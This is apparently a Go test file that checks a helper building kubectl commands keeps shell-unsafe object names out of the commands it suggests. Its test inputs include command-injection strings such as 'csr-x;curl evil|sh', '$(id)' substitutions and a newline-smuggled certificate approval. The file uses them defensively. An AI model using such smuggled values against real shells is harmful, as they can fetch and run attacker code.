package foreign

import (
	"strings"
	"testing"
)

// TestANameIsNoCommand: a name that a shell could read as more than one is in no command, and
// what is said instead begins no line and names it between quotation marks.
func TestANameIsNoCommand(t *testing.T) {
	t.Parallel()
	for _, name := range []string{
		"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "-f=x", "a'b", "a`id`", "a\\b", "a&b", "a>b", "a*", "a{b,c}", "a,b", "~root", "!!", "#a", "", ".", "..", "::1%next;x", "fe80::1%a", "::next", "next:", "undo:", "a:", "next::", "a\x1b[2J", "ä", "a\u202eb", "\xff",
	} {
		for how, got := range map[string]string{
			"alone":        Command("kubectl get csr -o name", "kubectl certificate approve %s", name),
			"twice":        Command("kubectl get csr -o name", "kubectl certificate approve %[1]s; kubectl certificate deny %[1]s", name),
			"with others":  Command("kubectl get csr -o name", "kubectl describe csr %s", Spaces{"csr-a", name}),
			"in a list":    Command("kubectl get csr -o name", "kubectl describe csr %s", Commas{name, "csr-a"}),
			"after others": Command("kubectl get csr -o name", "kubectl -n %s get csr %s", "default", name),
		} {
			own := strings.Replace(got, Quoted(name), "", 1)
			if own == got || strings.Contains(own, "kubectl certificate") || strings.Contains(own, "describe") || strings.Contains(own, "-n default") || !Prints(got) ||
				!strings.HasSuffix(own, "; what has such a name: kubectl get csr -o name") {
				t.Errorf("%s, %q: %s", how, name, got)
			}
		}
	}
}

// TestNamesOfObjectsAreInCommands: what clusters have stays as it is.
func TestNamesOfObjectsAreInCommands(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"csr-x7b2q", "node-csr-ZBzS_0qs", "worker-0.example.com", "system:node:worker-0", "secret/a", "/var/lib/kubelet/kubeconfig", "kubernetes-admin@kubernetes", "2001:db8::7", "2001:db8::", "::1", "::", "0"} {
		if got := Command("", "kubectl get %s", name); got != "kubectl get "+name {
			t.Errorf("%q: %s", name, got)
		}
	}
	if got := Command("", "{} %s --nodes %s %s%d", Words("fix --via ssh"), Commas{"a", "b"}, Spaces{"c", "d"}, 1); got != "{} fix --via ssh --nodes a,b c d1" {
		t.Error(got)
	}
}
